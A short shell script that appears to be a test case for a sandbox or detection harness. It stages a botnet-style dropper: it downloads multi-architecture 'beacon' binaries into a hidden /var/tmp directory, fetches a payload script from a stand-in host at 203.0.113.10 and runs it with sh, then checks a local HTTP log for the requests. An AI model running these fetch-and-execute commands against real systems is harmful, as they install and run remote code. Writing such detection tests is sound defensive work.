#!/bin/sh
. /opt/case/case.sh

mkdir -p /var/tmp/.w/bins && cd /var/tmp/.w
for a in x86_64 arm7 mips; do curl -s -o bins/$a http://203.0.113.10/programs/beacon; chmod 755 bins/$a; done
curl -s -o bins.sh http://203.0.113.10/payload.sh && sh bins.sh
nohup python3 -m http.server 48101 >log 2>&1 & server=$!
for n in $(seq 1 80); do ! grep -q 'GET /bins' log || break; sleep 0.1; done
kill $server
grep -q 'GET /bins/x86_64' log
took_place
